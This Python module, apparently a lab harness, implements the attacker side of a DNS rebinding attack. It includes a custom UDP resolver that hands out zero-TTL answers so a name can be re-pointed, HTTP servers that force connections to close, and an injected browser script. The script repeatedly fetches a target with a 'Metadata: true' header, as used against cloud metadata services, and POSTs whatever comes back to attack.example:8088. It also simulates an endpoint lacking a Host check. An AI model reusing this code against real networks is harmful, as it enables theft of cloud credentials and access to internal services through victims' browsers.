"""An attacker's side of DNS rebinding: a resolver that changes its mind, pages, and what comes back from them."""

import http.client
import json
import socket
import struct
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<script>
const report = (said) => fetch("http://attack.example:8088/report", {method: "POST", mode: "no-cors", body: JSON.stringify(said)});
(async () => {
  for (;;) {
    try {
      const answer = await fetch(%(target)s, {headers: {Metadata: "true"}, cache: "no-store"});
      const body = await answer.text();
      if (body !== "the attacker's") { await report({name: %(name)s, status: answer.status, body}); return; }
    } catch (why) { await report({name: %(name)s, failed: String(why)}); }
    await new Promise((done) => setTimeout(done, 2000));
  }
})();
</script>"""


class Resolver:
    """A name server on UDP. Every name leads to where `leads` says, for no longer than a moment."""

    def __init__(self, address: str, leads) -> None:
        self.leads = leads
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((address, 53))
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self) -> None:
        """Answers for ever."""
        while True:
            query, sender = self.socket.recvfrom(4096)
            self.socket.sendto(self.answer(query), sender)

    def answer(self, query: bytes) -> bytes:
        """One address for an A, nothing for all else."""
        labels, at = [], 12
        while query[at]:
            labels.append(query[at + 1 : at + 1 + query[at]].decode())
            at += query[at] + 1
        question, (kind,) = query[12 : at + 5], struct.unpack(">H", query[at + 1 : at + 3])
        address = self.leads(".".join(labels).lower()) if kind == 1 else None
        head = query[:2] + struct.pack(">HHHHH", 0x8580, 1, 1 if address else 0, 0, 0)
        record = struct.pack(">HHHIH", 0xC00C, 1, 1, 0, 4) + socket.inet_aton(address) if address else b""
        return head + question + record


class Quiet(BaseHTTPRequestHandler):
    """A handler that answers and says nothing on the side."""

    def give(self, status: int, content_type: str, body: bytes) -> None:
        """Answers and closes: a browser that keeps its connection would never ask for the name again."""
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_) -> None:
        pass


def serve(address: str, port: int, handler: type[Quiet]) -> None:
    """Serves for ever."""
    server = ThreadingHTTPServer((address, port), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()


def pages(address: str, port: int, answer) -> None:
    """The attacker's own server; `answer` gives the body for a method, a path and what was sent."""

    class Handler(Quiet):
        def reply(self) -> None:
            sent = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.give(200, "text/html", answer(self.command, self.path, sent).encode())

        do_GET = do_POST = reply

    serve(address, port, Handler)


def without_host_check(address: str, port: int, host: str, target: tuple[str, int]) -> None:
    """An endpoint that lacks one thing: whatever name it is called by, it takes for its own."""

    class Handler(Quiet):
        def do_GET(self) -> None:
            headers = {name: value for name, value in self.headers.items() if name.lower() != "host"}
            behind = http.client.HTTPConnection(*target, timeout=10)
            behind.request("GET", self.path, headers=headers | {"Host": host})
            answer = behind.getresponse()
            self.give(answer.status, answer.getheader("Content-Type"), answer.read())

    serve(address, port, Handler)


def page(name: str, target: str) -> str:
    """A page that asks until somebody else answers."""
    return PAGE % {"name": json.dumps(name), "target": json.dumps(target)}
